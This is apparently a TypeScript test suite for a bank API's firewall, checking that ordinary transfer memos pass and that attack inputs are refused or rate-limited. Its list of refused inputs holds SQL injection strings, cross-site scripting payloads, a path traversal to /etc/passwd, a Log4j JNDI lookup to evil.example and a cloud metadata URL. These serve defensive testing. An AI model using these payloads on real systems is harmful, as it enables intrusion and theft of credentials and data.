import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import type { HttpCall } from '../../scripts/https-client.ts';
import { assertProblem } from './assert-problem.ts';
import { bankForTests } from './running-bank.ts';

const bank = bankForTests();
const query = (text: string) => `/accounts?cursor=${encodeURIComponent(text)}`;

describe('the firewall lets pass', () => {
  for (const reference of [
    "O'Neil & sons",
    'Drop off table 5 at 7pm',
    'Select committee, union dues',
    'Rent 5/6 + 7',
  ]) {
    it(`the memo ${reference}`, async () => {
      const [from = '', to = ''] = bank().demo.users.alice.accounts;
      const answer = await bank().as('alice', '/transfers', {
        method: 'POST',
        headers: { 'idempotency-key': `memo-${Buffer.from(reference).toString('hex')}` },
        body: { from, to, amount: 1, currency: 'EUR', reference },
      });
      assert.equal(answer.status, 201, answer.text);
    });
  }
});

describe('the firewall refuses, before anybody asks for credentials', () => {
  const attacks: readonly (readonly [what: string, path: string, call?: HttpCall])[] = [
    ['SQL injection in a query', query("1' OR '1'='1' --")],
    ['SQL injection with a union', query('1 UNION SELECT username, password FROM users')],
    ['a script in a query', query('<script>alert(document.cookie)</script>')],
    ['an event handler in a query', query('<img src=x onerror=alert(1)>')],
    ['a way up the folders', query('../../../../etc/passwd')],
    ['a lookup of Log4j', query('${jndi:ldap://evil.example/a}')],
    ['the metadata service', query('http://169.254.169.254/latest/meta-data/')],
    ['a request without a user agent', '/health', { headers: { 'user-agent': '' } }],
    ['SQL injection in a body', '/transfers', { method: 'POST', body: { reference: "1' OR '1'='1' --" } }],
    [
      'SQL injection in a body behind 3,900 bytes of padding, about as many as the contract allows',
      '/transfers',
      { method: 'POST', body: { pad: 'a'.repeat(3_900), reference: "1' OR '1'='1' --" } },
    ],
    ['a long query', query('a'.repeat(2_100))],
    ['a cursor outside its alphabet, under an escaped name', `/customers?c%75rsor=${encodeURIComponent("a'b")}`],
    ['a proof that is none', '/transfers', { method: 'POST', body: {}, headers: { 'one-time-proof': '<a>' } }],
  ];
  for (const [what, path, call] of attacks) {
    it(what, async () => {
      assertProblem(await bank().client.call(path, call), 403, 'refused-by-firewall');
    });
  }

  it('a body of 2 MiB, with 413', async () => {
    const answer = await bank().client.call('/accounts', {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: `{"name":"${'a'.repeat(2 * 1024 * 1024)}"}`,
    });
    assert.equal(answer.status, 413);
    assert.equal((answer.json as { readonly code: string }).code, 'body-too-large');
  });
});

describe('the rate rules of the firewall', () => {
  it('stop an address that guesses one-time codes, whether it is signed in or not, and nowhere else', {
    skip: process.env['PORTCULLIS_URL'] !== undefined,
  }, async () => {
    const { client } = bank();
    const guess = () =>
      client.call('/otp/challenges/01234567-89ab-4def-8123-456789abcdef/verify', {
        method: 'POST',
        body: { code: '000000' },
      });
    const statuses = (await Promise.all(Array.from({ length: 120 }, guess))).map(({ status }) => status);
    assert.deepEqual([...new Set(statuses)].sort(), [401, 429]);
    assert.equal(statuses.filter((status) => status === 429).length, 20);
    assert.equal((await client.call('/health')).status, 200);
  });

  it('stop an address that asks too often, with 429', {
    skip: process.env['PORTCULLIS_URL'] !== undefined,
  }, async () => {
    const { client } = bank();
    let refused: { readonly status: number; readonly code: string } | undefined;
    for (let round = 0; round < 120 && refused === undefined; round += 1) {
      const answers = await Promise.all(Array.from({ length: 50 }, () => client.call('/nowhere')));
      const stopped = answers.find(({ status }) => status === 429);
      if (stopped !== undefined) refused = { status: 429, code: (stopped.json as { readonly code: string }).code };
    }
    assert.deepEqual(refused, { status: 429, code: 'too-many-requests' });
  });
});
